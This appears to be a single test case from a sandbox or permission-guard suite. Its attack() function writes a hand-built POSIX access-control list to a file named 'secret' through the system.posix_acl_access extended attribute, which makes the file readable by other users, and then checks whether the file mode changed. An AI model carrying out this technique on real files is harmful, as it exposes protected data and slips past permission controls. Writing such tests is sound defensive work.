"""opens the secret to everybody by a POSIX access list"""

import os
import struct


def attack():
    path = TARGETS["secret"]
    entries = [(1, 6, -1), (2, 4, 65534), (4, 4, -1), (16, 4, -1), (32, 4, -1)]
    acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)
    before = os.stat(path).st_mode
    os.setxattr(path, "system.posix_acl_access", acl)
    if os.stat(path).st_mode != before:
        reached("the secret has an access list")
